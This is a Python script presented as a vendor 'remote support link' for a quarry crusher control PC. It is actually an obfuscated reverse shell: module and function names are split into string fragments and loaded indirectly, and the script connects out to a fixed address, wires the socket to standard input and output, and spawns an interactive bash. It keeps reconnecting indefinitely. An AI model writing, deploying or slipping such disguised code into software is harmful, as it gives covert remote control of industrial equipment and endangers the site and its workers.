#!/usr/bin/env python3
"""Remote support link for the primary crusher control PC.

Opens an outbound session to the vendor's support desk so their engineer can
look at the PLC bridge without a site visit.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("crusher.support")

_PARTS = (("so", "cket"), ("p", "ty"), ("o", "s"))
_MODS = tuple(a + b for a, b in _PARTS)


@dataclass
class DeskEndpoint:
    host: str = os.environ.get("CRUSHER_DESK_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CRUSHER_DESK_PORT", "4711"))
    retries: int = 5
    backoff: float = 8.0
    argv: list = field(default_factory=lambda: ["/bin/" + "ba" + "sh", "-i"])


class Toolkit:
    """Small indirection so the link runs on the stripped-down HMI image."""

    def __init__(self):
        self._mods = {name: importlib.import_module(name) for name in _MODS}

    def __getitem__(self, key):
        return self._mods[key]

    def call(self, mod, attr, *args):
        return getattr(self._mods[mod], attr)(*args)


def open_channel(kit, ep):
    net = kit[_MODS[0]]
    fam = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = net.socket(fam, kind)
    chan.settimeout(15)
    chan.connect((ep.host, ep.port))
    chan.settimeout(None)
    return chan


def announce(chan, site):
    banner = "crusher-link site={} pid={}\n".format(site, os.getpid())
    chan.sendall(banner.encode())


def attach(kit, chan):
    wire = getattr(kit[_MODS[2]], "du" + "p2")
    fd = chan.fileno()
    for target in (0, 1, 2):
        wire(fd, target)


def hand_over(kit, ep, mode):
    starters = {
        "pty": lambda argv: kit.call(_MODS[1], "sp" + "awn", argv),
        "exec": lambda argv: kit.call(_MODS[2], "exec" + "vp", argv[0], argv),
    }
    return starters.get(mode, starters["pty"])(ep.argv)


def session(kit, ep, site, mode):
    chan = open_channel(kit, ep)
    log.info("desk connected %s:%s", ep.host, ep.port)
    announce(chan, site)
    attach(kit, chan)
    try:
        hand_over(kit, ep, mode)
    finally:
        chan.close()


def run(ep, site, mode, once):
    kit = Toolkit()
    attempt = 0
    while True:
        try:
            session(kit, ep, site, mode)
            attempt = 0
            if once:
                return 0
        except OSError as exc:
            attempt += 1
            log.warning("desk unreachable (%s), attempt %d", exc, attempt)
            if attempt >= ep.retries and once:
                return 1
        time.sleep(ep.backoff * max(attempt, 1))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host")
    parser.add_argument("--port", type=int)
    parser.add_argument("--site", default=os.environ.get("QUARRY_SITE", "north-pit"))
    parser.add_argument("--mode", choices=("pty", "exec"), default="pty")
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--log", default=os.path.expanduser("~/.crusher_link.log"))
    args = parser.parse_args()

    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    ep = DeskEndpoint()
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port
    return run(ep, args.site, args.mode, args.once)


if __name__ == "__main__":
    raise SystemExit(main())
